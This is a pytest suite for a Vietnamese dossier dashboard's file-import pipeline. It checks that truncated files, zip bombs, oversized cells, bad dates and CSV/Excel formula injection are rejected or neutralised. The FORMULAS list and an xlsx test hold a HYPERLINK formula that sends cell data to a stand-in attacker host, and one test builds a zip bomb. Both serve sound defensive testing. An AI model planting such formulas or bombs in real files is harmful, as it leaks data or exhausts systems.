"""Hostile and broken input: every file gives a clear message, the rest of the file loads,
accepted + rejected = rows read, and the published database is never damaged.

Also faults: an import killed with SIGKILL leaves the previous database serving and intact."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import os
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import duckdb
import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from builders import HEADERS_VI, KEYS, UNITS_CSV, _fmt, seed003_dossiers, write_csv, write_xlsx
from harness import examples, published

from dashboard.ingest.load import ingest
from dashboard.ingest.read import UnreadableFile

ROOT = Path(__file__).resolve().parents[1]
ROWS = seed003_dossiers()


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def count(db: Path, table: str = "dossiers") -> int:
    con = duckdb.connect(str(db), read_only=True)
    try:
        return con.execute(f"SELECT count(*) FROM {table}").fetchone()[0]
    finally:
        con.close()


def rejects(db: Path, file_name: str) -> list[tuple]:
    con = duckdb.connect(str(db), read_only=True)
    try:
        return con.execute(
            "SELECT line, column_name, reason FROM rejects WHERE file_name = ? ORDER BY line", [file_name]
        ).fetchall()
    finally:
        con.close()


@pytest.fixture
def base(tmp_path) -> Path:
    """A published database with the units and 10 dossiers."""
    (tmp_path / "units.csv").write_text(UNITS_CSV, encoding="utf-8")
    db = published([tmp_path / "units.csv", write_csv(tmp_path / "base.csv", ROWS[:10])], tmp_path / "c.duckdb")
    assert count(db) == 10
    return db


@pytest.fixture(scope="module")
def units_only(tmp_path_factory) -> Path:
    """A published database holding only the units (built once, copied by the property test's examples)."""
    tmp = tmp_path_factory.mktemp("units-only")
    (tmp / "units.csv").write_text(UNITS_CSV, encoding="utf-8")
    return published([tmp / "units.csv"], tmp / "c.duckdb")


def refused(db: Path, path: Path, *needles: str) -> str:
    """The file is refused as a whole with a message naming it; the published file is byte-identical."""
    before = sha(db)
    with pytest.raises(UnreadableFile) as e:
        ingest([path], db)
    msg = str(e.value)
    assert path.name in msg and all(n in msg for n in needles), msg
    assert sha(db) == before and count(db) == 10
    assert not list(db.parent.glob(f".{db.name}.building-*"))
    return msg


def loaded(db: Path, path: Path, read: int, accepted: int):
    r = ingest([path], db)[0]
    assert (r.rows_read, r.accepted, r.rejected) == (read, accepted, read - accepted)
    return r


# ----------------------------------------------------------------------------- whole-file problems
def test_truncated_xlsx(base, tmp_path):
    good = write_xlsx(tmp_path / "full.xlsx", ROWS[10:40])
    cut = tmp_path / "cut.xlsx"
    cut.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
    refused(base, cut, "hỏng hoặc không đầy đủ")


def test_zip_bomb_is_refused_before_unpacking(base, tmp_path):
    bomb = tmp_path / "bomb.xlsx"
    chunk = b"\0" * (1024 * 1024)
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            for _ in range(300):  # 300 MB of zeros, ~300 KB compressed
                f.write(chunk)
    assert bomb.stat().st_size < 2 * 1024 * 1024
    refused(base, bomb, "nén", ":1")


def test_binary_and_empty_and_xls(base, tmp_path):
    (tmp_path / "anh.csv").write_bytes(b"\x89PNG\r\n\x1a\n" + os.urandom(4000))
    (tmp_path / "rong.csv").write_bytes(b"  \r\n")
    (tmp_path / "cu.xls").write_bytes(b"\xd0\xcf\x11\xe0" + b"\0" * 600)
    for name in ("anh.csv", "rong.csv", "cu.xls"):
        refused(base, tmp_path / name)


def test_file_size_limit(base, tmp_path, monkeypatch):
    from dashboard.ingest import read

    monkeypatch.setattr(read, "MAX_FILE_BYTES", 1000)
    refused(base, write_csv(tmp_path / "lon.csv", ROWS[10:40]), "vượt giới hạn", "MB")


# ----------------------------------------------------------------------------- row problems: the rest loads
def test_utf16_excel_unicode_text_export_loads(base, tmp_path):
    buf = io.StringIO()
    w = csv.writer(buf, delimiter="\t", lineterminator="\r\n")
    w.writerow(HEADERS_VI)
    for r in ROWS[10:15]:
        w.writerow([_fmt(r.get(k)) for k in KEYS])
    p = tmp_path / "unicode.txt"
    p.write_bytes(b"\xff\xfe" + buf.getvalue().encode("utf-16-le"))
    r = loaded(base, p, 5, 5)
    assert r.encoding == "utf-16" and count(base) == 15


def test_a_cell_over_the_line_limit_rejects_its_line_only(base, tmp_path):
    """The fast sibling of the 100 MB cell below (in the `slow` tier): the same file and check, its cell just long
    enough for its line to pass the limit (MAX_LINE_CHARS), read and rejected by the same code."""
    from dashboard.ingest.read import MAX_LINE_CHARS

    big = dict(ROWS[11], late_reason="A" * MAX_LINE_CHARS)
    p = write_csv(tmp_path / "o_lon.csv", [ROWS[10], big, ROWS[12]])
    loaded(base, p, 3, 2)
    ((line, column, reason),) = rejects(base, p.name)
    assert line == 3 and f"vượt giới hạn {MAX_LINE_CHARS} ký tự" in reason
    assert int(reason.split()[2]) > MAX_LINE_CHARS  # "dòng dài N ký tự": the line's own length
    assert count(base) == 12


@pytest.mark.slow  # 100 MB written and read; the fast sibling: test_a_cell_over_the_line_limit_rejects_its_line_only
def test_a_100_mb_cell_rejects_its_line_only(base, tmp_path):
    big = dict(ROWS[11], late_reason="A" * 100_000_000)
    p = write_csv(tmp_path / "o_lon.csv", [ROWS[10], big, ROWS[12]])
    loaded(base, p, 3, 2)
    ((line, column, reason),) = rejects(base, p.name)
    assert line == 3 and "100000" in reason and "vượt giới hạn" in reason
    assert count(base) == 12


def test_impossible_dates_negative_durations_and_completed_before_received(base, tmp_path):
    rows = [dict(ROWS[10]), dict(ROWS[11]), dict(ROWS[12]), dict(ROWS[13])]
    rows[1]["completed_at"] = rows[1]["received_at"] - dt.timedelta(days=3)  # completed before received
    rows[2]["due_at"] = rows[2]["received_at"] - dt.timedelta(days=1)  # negative duration
    p = write_csv(tmp_path / "ngay.csv", rows)
    text = p.read_text(encoding="utf-8")
    p.write_text(text.replace(_fmt(rows[3]["received_at"]), "31/02/2024 08:00", 1), encoding="utf-8")
    loaded(base, p, 4, 1)
    got = rejects(base, p.name)
    assert [(line, col) for line, col, _ in got] == [(3, "completed_at"), (4, "due_at"), (5, "received_at")]
    assert "trước ngày tiếp nhận" in got[0][2] and "trước ngày tiếp nhận" in got[1][2]
    assert "31/02/2024" in got[2][2]


def test_duplicate_headers_keep_the_first_and_say_so(base, tmp_path):
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(HEADERS_VI + ["Mã hồ sơ"])
    for r in ROWS[10:13]:
        w.writerow([_fmt(r.get(k)) for k in KEYS] + ["KHAC-" + r["dossier_id"]])
    p = tmp_path / "trung_cot.csv"
    p.write_text(buf.getvalue(), encoding="utf-8")
    r = loaded(base, p, 3, 3)
    assert any("trùng" in w and "Mã hồ sơ" in w for w in r.warnings), r.warnings
    con = duckdb.connect(str(base), read_only=True)
    assert con.execute("SELECT count(*) FROM dossiers WHERE dossier_id LIKE 'KHAC-%'").fetchone()[0] == 0
    con.close()


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(1,2)", "=1+1"]


def test_formulas_are_text_never_run_never_re_exported_as_formulas(base, tmp_path):
    from dashboard.exports import table_xlsx

    rows = [dict(ROWS[10 + i], late_reason=f, handler=f) for i, f in enumerate(FORMULAS)]
    p = write_csv(tmp_path / "cong_thuc.csv", rows)
    loaded(base, p, len(rows), len(rows))
    con = duckdb.connect(str(base), read_only=True)
    stored = {
        r[0]
        for r in con.execute(
            f"SELECT late_reason FROM dossiers WHERE dossier_id IN ({', '.join('?' * len(rows))})",
            [r["dossier_id"] for r in rows],
        ).fetchall()
    }
    con.close()
    assert stored == set(FORMULAS)  # kept as the text that was sent
    # ... and written back out as text, not as formulas (CSV/Excel injection)
    ws = openpyxl.load_workbook(io.BytesIO(table_xlsx(["Lý do"], [[f] for f in FORMULAS], sheet="x"))).active
    cells = [c for row in ws.iter_rows() for c in row if c.value and str(c.value).lstrip("'") in FORMULAS]
    assert len(cells) == len(FORMULAS)
    assert all(c.data_type == "s" and not str(c.value).startswith(("=", "+", "-", "@")) for c in cells)


def test_xlsx_formula_cells_are_not_evaluated(base, tmp_path):
    p = write_xlsx(tmp_path / "cong_thuc.xlsx", ROWS[10:12])
    wb = openpyxl.load_workbook(p)
    ws = wb.active
    header_row = next(r for r in ws.iter_rows() if r[0].value == "Mã hồ sơ")[0].row
    ws.cell(header_row + 1, KEYS.index("late_reason") + 1).value = '=HYPERLINK("http://evil.example","x")'
    ws.cell(header_row + 2, KEYS.index("handler") + 1).value = "=1+1"
    wb.save(p)
    loaded(base, p, 2, 2)
    con = duckdb.connect(str(base), read_only=True)
    vals = con.execute(
        "SELECT late_reason, handler FROM dossiers WHERE dossier_id IN (?, ?) ORDER BY dossier_id",
        [ROWS[10]["dossier_id"], ROWS[11]["dossier_id"]],
    ).fetchall()
    con.close()
    # a formula without a cached result is read as empty: nothing is computed, nothing is fetched
    assert vals[0][0] in (None, "") and vals[1][1] in (None, "")


# ----------------------------------------------------------------------------- property: any rows
_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40)
_date = st.one_of(
    st.datetimes(min_value=dt.datetime(2019, 1, 1), max_value=dt.datetime(2027, 12, 31)).map(
        lambda d: d.strftime("%d/%m/%Y %H:%M")
    ),
    st.sampled_from(["31/02/2024", "00/00/0000", "2024-13-45", "hôm qua", "", "29/02/2023 25:61", "=NOW()"]),
    _text,
)


@st.composite
def dossier_row(draw):
    good = draw(st.sampled_from(ROWS[100:400]))
    row = [_fmt(good.get(k)) for k in KEYS]
    for i, k in enumerate(KEYS):  # break some cells in any way
        if draw(st.integers(0, 9)) == 0:
            row[i] = draw(_date if k.endswith("_at") else _text)
    return row


@settings(
    max_examples=examples(8, 200, fast=4),  # each example is an import: the long run is `make fuzz`
    deadline=None,
    derandomize=os.environ.get("CCHC_HYPOTHESIS_RANDOM") != "1",
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(rows=st.lists(dossier_row(), min_size=1, max_size=40), delimiter=st.sampled_from([",", ";"]))
def test_any_rows_accepted_plus_rejected_is_rows_read(tmp_path_factory, units_only, rows, delimiter):
    tmp = tmp_path_factory.mktemp("prop")
    db = tmp / "c.duckdb"
    shutil.copyfile(units_only, db)  # a fresh copy of the published units-only database for every example
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")
    w.writerow(HEADERS_VI)
    w.writerows(rows)
    p = tmp / "hoso.csv"
    p.write_text(buf.getvalue(), encoding="utf-8")
    before = sha(db)
    try:
        r = ingest([p], db)[0]
    except UnreadableFile as exc:  # e.g. the delimiter cannot be recognised: a clear message, nothing changed
        assert "hoso.csv" in str(exc) and sha(db) == before
        return
    assert r.rows_read == len(rows), (r, rows)
    assert r.accepted + r.rejected + r.skipped == r.rows_read  # skipped: blank, total or signature rows
    assert len(rejects(db, "hoso.csv")) == r.rejected
    ids = {row[0] for row in rows}
    assert count(db) <= min(r.accepted, len(ids))  # repeated ids merge, never duplicate


# ----------------------------------------------------------------------------- faults
def test_kill_9_during_import_leaves_the_published_database_intact(base, tmp_path):
    # 60 × 5,047 ≈ 300k rows, a few seconds of work to interrupt: the rows formatted once, each copy renamed
    assert KEYS[0] == "dossier_id"
    cells = [[_fmt(r.get(k)) for k in KEYS] for r in ROWS]
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(HEADERS_VI)
    for i in range(60):
        w.writerows([f"K{i:02d}-{row[0]}", *row[1:]] for row in cells)
    p = tmp_path / "nhieu.csv"
    p.write_text(buf.getvalue(), encoding="utf-8")
    before = sha(base)
    proc = subprocess.Popen(
        [sys.executable, "-m", "dashboard", "ingest", str(p), "--db", str(base)],
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.time() + 60
    while not list(base.parent.glob(f".{base.name}.building-*")) and time.time() < deadline:
        time.sleep(0.05)
    assert proc.poll() is None, "the import finished before it could be killed"
    time.sleep(0.5)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    assert sha(base) == before and count(base) == 10
    from dashboard.db import Database

    assert int(Database(base).snapshot().df("data_coverage").iloc[0]["dossiers"]) == 10  # still serves
    # the next import cleans the half-built file away and works
    assert list(base.parent.glob(f".{base.name}.building-*"))
    loaded(base, write_csv(tmp_path / "sau.csv", ROWS[10:20]), 10, 10)
    assert count(base) == 20 and not list(base.parent.glob(f".{base.name}.building-*"))


def test_upload_folders_of_a_killed_server_are_swept(tmp_path):
    """An upload folder of a server killed with SIGKILL (pid gone) is removed at the next start; a live one stays."""
    import subprocess
    import sys

    from dashboard.tempdirs import UPLOAD_PREFIX, sweep_uploads

    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    gone = tmp_path / f"{UPLOAD_PREFIX}{dead.pid}-abc"
    (gone / "x.csv").parent.mkdir()
    (gone / "x.csv").write_text("a")
    live = tmp_path / f"{UPLOAD_PREFIX}{os.getppid()}-def"
    live.mkdir()
    mine = tmp_path / f"{UPLOAD_PREFIX}{os.getpid()}-ghi"
    mine.mkdir()
    other = tmp_path / "cchc-upload-x"
    other.mkdir()
    assert sweep_uploads(str(tmp_path)) == [gone.name]
    assert not gone.exists() and live.exists() and mine.exists() and other.exists()
